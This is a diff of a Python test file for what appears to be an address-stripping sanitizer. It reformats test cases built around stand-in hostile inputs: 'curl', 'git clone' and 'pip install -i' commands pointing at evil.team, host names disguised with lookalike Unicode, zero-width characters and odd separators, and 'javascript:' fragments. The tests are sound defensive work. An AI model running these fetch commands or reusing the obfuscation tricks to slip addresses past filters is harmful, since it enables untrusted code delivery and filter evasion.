@@ -145,8 +145,14 @@ def test_what_was_sent_may_stand_and_so_may_what_is_no_address(text: str) -> Non
         ("`evil.co`m https://`evil.com` `evil.com`/x", "  "),
         # Behind no scheme, or one without slashes.
         ("https:evil.dev http:/evil.dev view-source:https://evil.dev evilSite.dev/x evil.team.", "    ."),
-        ("`https:evil.dev` `evilSite.dev/x` `evil.dev:80` `me@evil.dev` `//evil.dev` `evil.dev?q`", "`` `` `` `` `` ``"),
-        ("`curl evil.team` `git clone evil.team` `pip install -i evil.team x` `http evil.team`", "`curl ` `git clone ` `pip install -i  x` `http `"),
+        (
+            "`https:evil.dev` `evilSite.dev/x` `evil.dev:80` `me@evil.dev` `//evil.dev` `evil.dev?q`",
+            "`` `` `` `` `` ``",
+        ),
+        (
+            "`curl evil.team` `git clone evil.team` `pip install -i evil.team x` `http evil.team`",
+            "`curl ` `git clone ` `pip install -i  x` `http `",
+        ),
         ("`curl ev''il.team` `curl ev\\\nil.team`", "`curl  `curl "),
         ("\\\\evil\\share \\\\evil.team\\share", " "),
         # A name that no one else has leads nowhere, but a sentence makes readers follow it.
@@ -156,7 +162,10 @@ def test_what_was_sent_may_stand_and_so_may_what_is_no_address(text: str) -> Non
         ('```sh title="evil.team"\nls\n```', '```sh title=""\nls\n```'),
         ("# evil.team\n\n| a | evil.team |", "# \n\n| a |  |"),
         # Letters of other scripts, and words that touch a name.
-        ("\u0435vil.com ev\u0131l.com evi\u0336l.com evil.com\u0336 \U0001f525.ws evil.com에서 -evil.com ..evil.com", "      - .."),
+        (
+            "\u0435vil.com ev\u0131l.com evi\u0336l.com evil.com\u0336 \U0001f525.ws evil.com에서 -evil.com ..evil.com",
+            "      - ..",
+        ),
         ("https:\\\\evil.com\\x http:/\\evil.com", " "),
         ("ev\u200bil.com ht\u00adtps://evil.com a\u200bb", "  ab"),
         ("evil\u3002com evil\uff0ecom evil\uff61com evil\u2024com evil\ufe52com", "    "),
@@ -177,8 +186,8 @@ def test_any_other_address_is_left_out(text: str, left: str) -> None:
 
 
 PIECES = [
-    *["https:", "//", "evil.example.dev/x", URL, " ", "\n", "www.", ".", "a", "(", ")", "é", '"', "evil.com/x", "[", "]"],
-    *["](", "![", "<", ">", "<img ", "<b>", "`", "``", "```", "~~~", "- ", "1. ", "    ", "[x]: ", ":", "!", "\\"],
+    *["https:", "//", "evil.example.dev/x", URL, " ", "\n", "www.", ".", "a", "(", ")", "é", '"', "evil.com/x", "["],
+    *["]", "](", "![", "<", ">", "<img ", "<b>", "`", "``", "```", "~~~", "- ", "1. ", "    ", "[x]: ", ":", "!", "\\"],
     *["中", "国", "公司", ".", "evil.", "net"],
     *["&#46;", "\u200b", "。", "/rel", "javascript:", "[a](/rel)", "=", "\n\n", "x" * 200],
 ]  # fmt: skip
